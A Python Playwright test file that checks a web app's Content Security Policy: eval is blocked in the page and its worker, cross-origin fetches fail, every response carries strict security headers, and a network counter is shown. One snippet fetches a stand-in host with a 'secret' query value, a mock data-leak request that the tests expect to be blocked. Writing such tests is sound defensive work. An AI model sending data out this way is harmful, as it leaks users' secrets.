"""What the page cannot do, measured in the page and in its worker."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import BrowserContext, Page, expect
from support.app import App
from support.guard import Guard

# In a task of its own: what the debugger itself evaluates is not held to the policy.
EVAL = """() => new Promise((resolve) => setTimeout(() => {
  try { resolve(String((0, eval)("6 * 7"))); } catch (error) { resolve(error.name); }
}))"""

FETCH_ELSEWHERE = """() => new Promise((resolve) => setTimeout(() =>
  fetch("https://example.invalid/?log=secret").then(
    () => resolve("sent"), (error) => resolve(error.name))))"""


def test_eval_throws_in_the_page_and_in_the_worker(app: App, guard: Guard) -> None:
    app.start_fresh()
    app.wait_until_ready()
    guard.allow("script-src|unsafe-eval|Content Security Policy")
    assert app.page.evaluate(EVAL) == "EvalError"
    (worker,) = app.page.workers
    assert worker.evaluate(EVAL) == "EvalError"


def test_no_request_can_leave(app: App, guard: Guard) -> None:
    app.start_fresh()
    app.wait_until_ready()
    guard.allow("connect-src|Content Security Policy|Failed to fetch|another origin")
    assert app.page.evaluate(FETCH_ELSEWHERE) == "TypeError"
    (worker,) = app.page.workers
    assert worker.evaluate(FETCH_ELSEWHERE) == "TypeError"
    # The policy stops it before there is a request.
    assert not [url for url in guard.requests if "example.invalid" in url]


def test_every_response_carries_the_headers(context: BrowserContext, page: Page) -> None:
    urls: set[str] = set()
    context.on("response", lambda response: urls.add(response.url))
    app = App(page)
    app.open()
    app.start_fresh()
    app.wait_until_ready()
    page.goto("/static/")
    expect(page.locator("#list > li")).to_have_count(5)
    urls |= {f"{page.url}{path}" for path in ("../sw.js", "../no-such-page", "../no-such.js")}

    kinds = {url.split("?")[0].rpartition(".")[2] for url in urls}
    assert {"js", "mjs", "wasm", "zip", "gz", "json", "css", "svg"} <= kinds
    assert any("/assets/worker" in url for url in urls)
    assert any("/bridge/worker.js" in url for url in urls)
    # Asked for anew: a browser that revalidates sees the headers of its own copy.
    for url in sorted(urls):
        headers = page.request.get(url).headers
        policy = headers.get("content-security-policy", "")
        assert policy.startswith("default-src 'none'; script-src 'self' 'wasm-unsafe-eval';"), url
        assert "unsafe-inline" not in policy, url
        assert "unsafe-eval" not in policy.replace("wasm-unsafe-eval", ""), url
        assert headers.get("x-content-type-options") == "nosniff", url
        assert headers.get("referrer-policy") == "no-referrer", url


@pytest.mark.browser_context_args(service_workers="allow")
def test_the_network_counter_counts_what_was_asked(app: App) -> None:
    app.start_fresh()
    app.open("/#/settings")
    expect(
        app.page.get_by_text(re.compile(r"^\d+ requests since this page .* its own address\.$"))
    ).to_be_visible()
